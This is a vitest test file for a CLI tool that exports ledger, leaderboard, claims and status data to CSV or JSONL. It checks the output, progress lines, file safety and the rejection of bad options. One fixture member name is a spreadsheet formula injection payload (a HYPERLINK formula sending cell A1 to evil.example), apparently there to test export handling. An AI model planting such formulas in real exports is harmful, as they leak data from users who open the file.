// `export` through the CLI: in-process through run(), beside a process holding the store, and once as
// a real process through npm run -s cli.
import type { ChildProcess } from 'node:child_process';
import { execFile } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { OutExistsError, toFile } from '../../src/cli/export.js';
import { run } from '../../src/cli/main.js';
import { Store } from '../../src/store/store.js';
import { AT, fixtureStore } from '../exports/fixture.js';
import { startUntilReady, stopAll } from '../support/ready.js';
import { childTmp, tempDb, tempDir } from '../support/temp.js';

const children: ChildProcess[] = [];
afterEach(() => stopAll(children));

/** Runs the CLI in-process, giving it a stdout stream (as bin.ts does) when asked. */
async function cli(args: string[], options: { stdout?: boolean; cwd?: string } = {}) {
  let out = '';
  let err = '';
  let streamed = '';
  const stdout = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      streamed += chunk.toString('utf8');
      callback();
    },
  });
  const io = { out: (t: string) => void (out += `${t}\n`), err: (t: string) => void (err += `${t}\n`), ...(options.stdout && { stdout }) };
  const env = options.cwd === undefined ? {} : { INIT_CWD: options.cwd };
  const code = await run(args, env, io, new Date(AT));
  return { code, out, err, streamed };
}

async function fixtureDb(): Promise<string> {
  const db = tempDb('export-');
  await fixtureStore(db);
  return db;
}

const folder = (db: string) => readdirSync(dirname(db)).sort();

describe('cli export', () => {
  it('writes CSV to stdout by default, with a summary on stderr', async () => {
    const db = await fixtureDb();
    const result = await cli(['--db', db, 'export', 'ledger'], { stdout: true });
    expect(result).toMatchObject({ code: 0, out: '' });
    const records = parse(result.streamed, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.entryId)).toEqual(['a1', 'a2', 'a3', 'b1', 'a4', 'a5', 'r1', 'b2', 'd1', 'e1', 'b3']);
    // Too small for progress: the summary only.
    expect(result.err).toBe('Exported 11 row(s) (ledger, csv).\n');
  });

  it('shows progress on stderr for an export of 1,000 rows or more: a line a tenth when not a terminal', async () => {
    const db = tempDb('export-');
    const store = await Store.open(db, { command: 'test' });
    await store.transact((tx) => {
      tx.put(['members', { id: 'm', email: 'm@example.com', name: 'M', signedUpAt: '2025-01-01' }]);
      for (let i = 0; i < 1000; i += 1) {
        const at = new Date(Date.UTC(2025, 1, 1) + i * 60_000).toISOString();
        tx.put(['ledger', { id: `e${i}`, memberId: 'm', action: 'qa.ask', at, points: 10, inputs: {}, source: 'import', by: 'test', edition: 'x' }]);
      }
    });
    await store.close();
    const result = await cli(['--db', db, 'export', 'ledger', '--format', 'jsonl'], { stdout: true });
    expect(result.code).toBe(0);
    expect(result.streamed.trimEnd().split('\n')).toHaveLength(1000);
    const lines = result.err.trimEnd().split('\n');
    expect(lines).toHaveLength(11);
    expect(lines[0]).toMatch(/^export ledger 10% 100\/1,000 rows/);
    expect(lines[9]).toMatch(/^export ledger 100% 1,000\/1,000 rows/);
    expect(lines[10]).toBe('Exported 1,000 row(s) (ledger, jsonl).');
  });

  it('gives the whole export to out() when no stdout stream is given, ending as it should', async () => {
    const db = await fixtureDb();
    const result = await cli(['--db', db, 'export', 'leaderboard', '--period', 'month', '--format', 'jsonl']);
    expect(result.code).toBe(0);
    expect(result.out).toBe(
      '{"board":"month","period":"2026-11","rank":1,"memberId":"bob","name":"=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"Click\\")","points":550}\n' +
        '{"board":"month","period":"2026-11","rank":2,"memberId":"eve","name":"Eve","points":10}\n',
    );
  });

  it('writes --out FILE (taken from the folder the command was run in) and leaves no temp file', async () => {
    const db = await fixtureDb();
    const before = folder(db);
    const result = await cli(['--db', db, 'export', 'statuses', '--at', '2026-11-23', '--out', 'statuses.csv'], { cwd: dirname(db) });
    expect(result).toMatchObject({ code: 0, out: '' });
    const file = join(dirname(db), 'statuses.csv');
    expect(result.err).toContain(`Exported 4 row(s) (statuses, csv) to ${file}.`);
    const records = parse(readFileSync(file), { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => [r.memberId, r.level, r.pointsToKeep])).toEqual([
      ['ann', 'enabler', '5010'],
      ['bob', 'advocate', '0'],
      ['dora', 'advocate', '0'],
      ['eve', '', ''],
    ]);
    expect(folder(db)).toEqual([...before, 'statuses.csv'].sort());
  });

  it('never replaces a file without --force; with it, replaces the file whole', async () => {
    const db = await fixtureDb();
    const file = join(dirname(db), 'claims.csv');
    writeFileSync(file, 'keep me');
    const before = folder(db);
    const refused = await cli(['--db', db, 'export', 'claims', '--out', file]);
    expect(refused).toMatchObject({ code: 1, out: '' });
    expect(refused.err).toBe(`--out ${file} exists already: choose another name, or add --force to replace it.\n`);
    expect(readFileSync(file, 'utf8')).toBe('keep me');
    const forced = await cli(['--db', db, 'export', 'claims', '--out', file, '--force', '--format', 'jsonl']);
    expect(forced.code).toBe(0);
    expect(readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { claimId: string }).claimId)).toEqual(['claim-1', 'claim-2', 'claim-3']);
    expect(folder(db)).toEqual(before);
  });

  const bad: [string, string[], RegExp][] = [
    ['an unknown export', ['export', 'members'], /^The export must be statuses, ledger, claims, leaderboard, partners, not "members"\.$/],
    ['no export named', ['export'], /^Expected: export statuses\|ledger\|claims\|leaderboard\|partners /],
    ['two exports named', ['export', 'ledger', 'claims'], /^Expected: export /],
    ['an unknown format', ['export', 'ledger', '--format', 'xlsx'], /^The format must be csv or jsonl, not "xlsx"\.$/],
    ['a bad date', ['export', 'ledger', '--from', '2026-13-01'], /^--from must be a date YYYY-MM-DD or an ISO-8601 instant with Z or an offset, not "2026-13-01"\.$/],
    ['--from after --to', ['export', 'claims', '--from', '2026-11-02', '--to', '2026-11-01'], /^--from \(2026-11-02\) comes after --to \(2026-11-01\)\.$/],
    ['--at for the ledger', ['export', 'ledger', '--at', '2026-11-01'], /^--at does not apply to the ledger export \(it takes --from, --to\)\.$/],
    ['--period for statuses', ['export', 'statuses', '--period', 'month'], /^--period does not apply to the statuses export/],
    ['a bad period', ['export', 'leaderboard', '--period', 'week'], /^--period must be month or year, not "week"\.$/],
    ['an option of another command', ['export', 'ledger', '--dry-run'], /^--dry-run does not apply to export/],
    ['--force without --out', ['export', 'ledger', '--force'], /^--force only goes with --out FILE\.$/],
    ['--out in a folder that does not exist', ['export', 'ledger', '--out', 'nowhere/ledger.csv'], /^--out .*nowhere\/ledger\.csv: the folder .*nowhere does not exist\.$/],
    ['--out naming a folder', ['export', 'ledger', '--out', '.', '--force'], /^--out .* is a folder: name a file\.$/],
    ['--out naming the store, even with --force', ['export', 'ledger', '--out', 'db.json', '--force'], /^--out .*db\.json is the store itself: choose another file\.$/],
    ['--out naming a journal of the store', ['export', 'ledger', '--out', 'db.json.journal.9'], /is the store itself/],
    ['an option parseArgs does not know', ['export', 'ledger', '--output', 'x.csv'], /Unknown option '--output'/],
  ];

  it.each(bad)('refuses %s with a sentence, exit 1, and writes nothing', async (_what, args, message) => {
    const db = await fixtureDb();
    const before = folder(db);
    const result = await cli(['--db', db, ...args], { stdout: true, cwd: dirname(db) });
    expect(result).toMatchObject({ code: 1, out: '', streamed: '' });
    expect(result.err.split('\n')[0]).toMatch(message);
    expect(folder(db)).toEqual(before);
  });

  it('says so when there is no store, and creates none', async () => {
    const db = tempDb('export-');
    const result = await cli(['--db', db, 'export', 'statuses']);
    expect(result).toMatchObject({ code: 1, out: '' });
    expect(result.err).toMatch(/^There is no store at .*db\.json yet/);
    expect(readdirSync(dirname(db))).toEqual([]);
  });

  it('runs beside a process holding the store for writing (a live bot)', async () => {
    const db = await fixtureDb();
    await startUntilReady([process.execPath, '--import', 'tsx', 'test/store/hold-store.ts', db], childTmp(), /holding (\d+)/, children);
    const result = await cli(['--db', db, 'export', 'partners', '--out', join(dirname(db), 'partners.csv')]);
    expect(result.err).not.toContain('already open for writing');
    expect(result.code).toBe(0);
    expect(parse(readFileSync(join(dirname(db), 'partners.csv')), { bom: true, columns: true })).toHaveLength(4);
  });
});

describe('an export file', () => {
  it('is not there at all when the export fails midway, and no temp file is left', async () => {
    const dir = tempDir('export-file-');
    const out = join(dir, 'ledger.csv');
    const failing = toFile(out, false, async (stream) => {
      stream.write('entryId\r\na1\r\n');
      throw new Error('the disk is full');
    });
    await expect(failing).rejects.toThrow('the disk is full');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('does not replace a file someone made meanwhile without --force, and replaces it with', async () => {
    const dir = tempDir('export-file-');
    const out = join(dir, 'ledger.csv');
    const racing = (force: boolean) =>
      toFile(out, force, async (stream) => {
        writeFileSync(out, 'theirs');
        stream.write('ours');
        return 1;
      });
    await expect(racing(false)).rejects.toBeInstanceOf(OutExistsError);
    expect(readFileSync(out, 'utf8')).toBe('theirs');
    expect(readdirSync(dir)).toEqual(['ledger.csv']);
    await expect(racing(true)).resolves.toBe(1);
    expect(readFileSync(out, 'utf8')).toBe('ours');
    expect(readdirSync(dir)).toEqual(['ledger.csv']);
  });
});

describe('cli export as a process', () => {
  it('writes --out through npm run -s cli, and refuses a bad option with exit 1 and nothing written', async () => {
    const db = await fixtureDb();
    const out = join(dirname(db), 'ledger.jsonl');
    const before = folder(db);
    const env = { ...process.env, ...childTmp(), DB_FILE: db };
    const exec = promisify(execFile);
    const done = await exec('npm', ['run', '-s', 'cli', '--', 'export', 'ledger', '--from', '2026-06-01', '--to', '2026-11-05', '--format', 'jsonl', '--out', out], { env });
    expect(done.stdout).toBe('');
    expect(done.stderr).toContain(`Exported 5 row(s) (ledger, jsonl) to ${out}.`);
    const lines = readFileSync(out, 'utf8').trimEnd().split('\n');
    expect(lines.map((l) => (JSON.parse(l) as { entryId: string }).entryId)).toEqual(['a5', 'r1', 'b2', 'd1', 'e1']);
    const failed = await exec('npm', ['run', '-s', 'cli', '--', 'export', 'ledger', '--at', 'now', '--out', join(dirname(db), 'x.csv')], { env }).catch(
      (e: { code: number; stdout: string; stderr: string }) => e,
    );
    expect(failed).toMatchObject({ code: 1, stdout: '' });
    expect((failed as { stderr: string }).stderr).toBe('--at does not apply to the ledger export (it takes --from, --to).\n');
    expect(folder(db)).toEqual([...before, 'ledger.jsonl'].sort());
  });
});
